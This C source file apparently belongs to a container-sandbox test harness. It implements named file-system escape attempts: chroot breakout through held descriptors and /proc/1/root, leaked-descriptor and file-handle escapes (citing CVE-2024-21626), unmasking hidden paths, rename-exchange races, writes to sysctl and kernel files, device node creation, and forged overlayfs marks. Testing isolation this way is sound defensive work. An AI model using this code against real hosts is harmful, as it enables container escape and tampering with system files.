// Attacks through the file system: ways out of the root, hidden paths, the kernel's files, devices, overlay's own marks.
#include "attacks.h"

#include <dirent.h>
#include <linux/fs.h>
#include <sched.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <time.h>

// --- out of the root ---

// `handle-make PATH`: no attack: says PATH's handle, which is the same for everybody who can open by it.
static void make_handle(char **arguments) {
    struct {
        struct file_handle head;
        unsigned char bytes[MAX_HANDLE_SZ];
    } handle = {.head = {.handle_bytes = MAX_HANDLE_SZ}};
    int mount;
    if (name_to_handle_at(AT_FDCWD, arguments[0], &handle.head, &mount, 0) < 0)
        return attacks_refused("name_to_handle_at");
    char text[2 * MAX_HANDLE_SZ + 1] = "";
    for (unsigned i = 0; i < handle.head.handle_bytes; i++)
        snprintf(text + 2 * i, 3, "%02x", handle.head.f_handle[i]);
    attacks_succeeded("%d %s", handle.head.handle_type, text);
}

// `handle-open TYPE HEX DIRECTORY…`: opens by that handle, on the file system of each directory.
static void open_handle(char **arguments) {
    struct {
        struct file_handle head;
        unsigned char bytes[MAX_HANDLE_SZ];
    } handle = {.head = {.handle_type = atoi(arguments[0]), .handle_bytes = (unsigned)strlen(arguments[1]) / 2}};
    for (unsigned i = 0; i < handle.head.handle_bytes && i < MAX_HANDLE_SZ; i++) {
        unsigned byte = 0;
        sscanf(arguments[1] + 2 * i, "%2x", &byte);
        handle.head.f_handle[i] = (unsigned char)byte;
    }
    for (char **place = arguments + 2; *place != NULL; place++) {
        int directory = open(*place, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        int file = (int)syscall(SYS_open_by_handle_at, directory, &handle, O_RDONLY);
        if (file >= 0)
            attacks_succeeded("opened by handle below %s", *place);
        attacks_refused(*place);
    }
}

// `leaked SECRET` (CVE-2024-21626): looks for a way out in every descriptor it has, and in its working directory.
static void leaked(char **arguments) {
    int here = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (here >= 0 && attacks_climb(here, arguments[0]))
        attacks_succeeded("its working directory leads out");
    char path[64], target[512];
    for (int i = 3; i < 1024; i++) {
        if (i == here || fcntl(i, F_GETFD) < 0)
            continue;
        if (attacks_climb(i, arguments[0]))
            attacks_succeeded("descriptor %d leads out", i);
        snprintf(path, sizeof path, "/proc/self/fd/%d", i);
        ssize_t length = readlink(path, target, sizeof target - 1);
        target[length > 0 ? length : 0] = 0;
        attacks_succeeded("descriptor %d was leaked: %s", i, target);
    }
    errno = EBADF;
    attacks_refused("every descriptor");
}

// `chroot-escape DIRECTORY SECRET`: the classic: a root below a directory that one still holds.
static void escape_chroot(char **arguments) {
    int held = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    mkdir(arguments[0], 0755);
    if (chroot(arguments[0]) < 0)
        attacks_refused("chroot");
    if (attacks_climb(held, arguments[1]))
        attacks_succeeded("climbed out of the root");
    errno = ENOENT;
    attacks_refused("climbing");
    char text[64];
    static const char *const doors[] = {"/proc/1/root", "/proc/1/cwd", "/proc/self/root/.."};
    for (size_t i = 0; i < 3; i++) {
        int door = open(doors[i], O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (door >= 0 && (attacks_climb(door, arguments[1]) || attacks_read_at(door, arguments[1] + 1, text, sizeof text) > 0))
            attacks_succeeded("%s leads out", doors[i]);
        attacks_refused(doors[i]);
    }
}

// --- hidden paths ---

static void check_secret(const char *path, const char *how) {
    char text[64];
    if (attacks_read_at(AT_FDCWD, path, text, sizeof text) > 0)
        attacks_succeeded("%s gave %s", how, text);
}

// `unhide PATH`: swaps, moves and replaces what covers PATH, and its parents, to see what lies below.
static void unhide(char **arguments) {
    const char *path = arguments[0];
    char parent[512], aside[600], other[600];
    check_secret(path, "reading");
    snprintf(parent, sizeof parent, "%s", path);
    *strrchr(parent, '/') = 0;
    snprintf(aside, sizeof aside, "%s-aside", path);
    snprintf(other, sizeof other, "%s-aside", parent);
    if (rename(path, aside) == 0)
        check_secret(path, "renaming it");
    attacks_refused("rename");
    if (unlink(path) == 0 || rmdir(path) == 0)
        check_secret(path, "removing it");
    attacks_refused("unlink");
    int file = open(aside, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (file >= 0)
        close(file);
    if (syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, aside, RENAME_EXCHANGE) == 0) {
        check_secret(aside, "exchanging it");
        check_secret(path, "exchanging it");
    }
    attacks_refused("exchange");
    unlink(aside);
    if (link(path, aside) == 0)
        check_secret(aside, "linking it");
    attacks_refused("link");
    if (rename(parent, other) == 0) {
        char moved[1200];
        snprintf(moved, sizeof moved, "%s%s", other, strrchr(path, '/'));
        check_secret(moved, "renaming its parent");
        if (mkdir(parent, 0755) == 0)
            check_secret(path, "a new parent");
    } else {
        attacks_refused("rename of the parent");
    }
    if (symlink("/dev/null", aside) == 0)  // what CVE-2025-31133 put where a mask was bound from
        unlink(aside);
    file = open(path, O_WRONLY | O_CLOEXEC);
    if (file >= 0 && write(file, "x", 1) == 1)
        attacks_succeeded("what hides it was written");
    attacks_refused("writing what hides it");
}

// `exchange A B SECONDS`: exchanges two names as fast as it can, for those who look at one of them twice.
static void swap_forever(char **arguments) {
    time_t end = time(NULL) + atoi(arguments[2]);
    attacks_started("%d", getpid());
    for (unsigned long count = 0;; count++) {
        if (syscall(SYS_renameat2, AT_FDCWD, arguments[0], AT_FDCWD, arguments[1], RENAME_EXCHANGE) < 0)
            return attacks_refused("exchange");
        if (count % 256 == 0 && time(NULL) >= end)
            attacks_succeeded("%lu times", count);
    }
}

// --- the kernel's files ---

// `write-file PATH TEXT`
static void write_kernel_file(char **arguments) {
    if (attacks_write_file(arguments[0], arguments[1]) == 0)
        attacks_succeeded("wrote %s", arguments[0]);
    attacks_refused(arguments[0]);
}

// `sysctl NAME…`: writes to each what it is already.
static void set_sysctl(char **arguments) {
    for (; *arguments != NULL; arguments++) {
        char path[256], value[1024];
        snprintf(path, sizeof path, "/proc/sys/%s", *arguments);
        if (attacks_read_at(AT_FDCWD, path, value, sizeof value) < 0) {
            attacks_refused(*arguments);
            continue;
        }
        if (attacks_write_file(path, value) == 0)
            attacks_succeeded("wrote %s", path);
        attacks_refused(*arguments);
    }
}

// `look PATH…`: a directory with anything in it, or a file that can be opened.
static void look(char **arguments) {
    for (; *arguments != NULL; arguments++) {
        DIR *directory = opendir(*arguments);
        struct dirent *entry;
        while (directory != NULL && (entry = readdir(directory)) != NULL)
            if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0)
                attacks_succeeded("%s holds %s", *arguments, entry->d_name);
        char byte[2];
        if (directory == NULL && errno == ENOTDIR && attacks_read_at(AT_FDCWD, *arguments, byte, sizeof byte) > 0)
            attacks_succeeded("%s can be read", *arguments);
        if (directory != NULL) {
            closedir(directory);
            errno = ENODATA;
        }
        attacks_refused(*arguments);
    }
}

// --- devices ---

// `make-device FILE b|c MAJOR MINOR`: makes the node and reads the device.
static void make_device(char **arguments) {
    char bytes[2048];
    mode_t kind = arguments[1][0] == 'b' ? S_IFBLK : S_IFCHR;
    if (mknod(arguments[0], kind | 0666, makedev((unsigned)atoi(arguments[2]), (unsigned)atoi(arguments[3]))) < 0)
        return attacks_refused("mknod");
    if (attacks_read_at(AT_FDCWD, arguments[0], bytes, sizeof bytes) > 0)
        attacks_succeeded("read the device");
    attacks_refused("the device");
}

// `open-device FILE…`: a node that is there.
static void open_device(char **arguments) {
    for (; *arguments != NULL; arguments++) {
        if (open(*arguments, O_RDONLY | O_NONBLOCK | O_CLOEXEC) >= 0)
            attacks_succeeded("opened %s", *arguments);
        attacks_refused("open for reading");
        if (open(*arguments, O_WRONLY | O_NONBLOCK | O_CLOEXEC) >= 0)
            attacks_succeeded("opened %s", *arguments);
        attacks_refused("open for writing");
    }
}

// --- overlay's marks ---

// `forge DIRECTORY`: whiteouts and attributes that overlayfs, or who reads the change set, would take for its own.
static void forge(char **arguments) {
    static const struct {
        const char *name, *value;
    } marks[] = {
        {"trusted.overlay.opaque", "y"}, {"trusted.overlay.redirect", "/etc"}, {"trusted.overlay.metacopy", ""},
        {"trusted.overlay.origin", "x"}, {"trusted.overlay.overlay.opaque", "y"}, {"trusted.grace", "x"},
    };
    char path[512];
    snprintf(path, sizeof path, "%s/whiteout", arguments[0]);
    if (mknod(path, S_IFCHR, 0) == 0)
        attacks_succeeded("a whiteout");
    attacks_refused("whiteout");
    snprintf(path, sizeof path, "%s/from", arguments[0]);
    int file = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (file >= 0)
        close(file);
    char to[512];
    snprintf(to, sizeof to, "%s/to", arguments[0]);
    if (syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, to, RENAME_WHITEOUT) == 0)
        attacks_succeeded("a whiteout by rename");
    attacks_refused("RENAME_WHITEOUT");
    for (size_t i = 0; i < sizeof marks / sizeof *marks; i++) {
        if (setxattr(arguments[0], marks[i].name, marks[i].value, strlen(marks[i].value), 0) == 0)
            attacks_succeeded("%s", marks[i].name);
        attacks_refused(marks[i].name);
    }
}

const struct attack attacks_files[] = {
    {"handle-make", 1, make_handle}, {"handle-open", 3, open_handle}, {"leaked", 1, leaked},
    {"chroot-escape", 2, escape_chroot}, {"unhide", 1, unhide}, {"exchange", 3, swap_forever},
    {"write-file", 2, write_kernel_file}, {"sysctl", 1, set_sysctl}, {"look", 1, look}, {"make-device", 4, make_device},
    {"open-device", 1, open_device}, {"forge", 1, forge}, {NULL, 0, NULL},
};
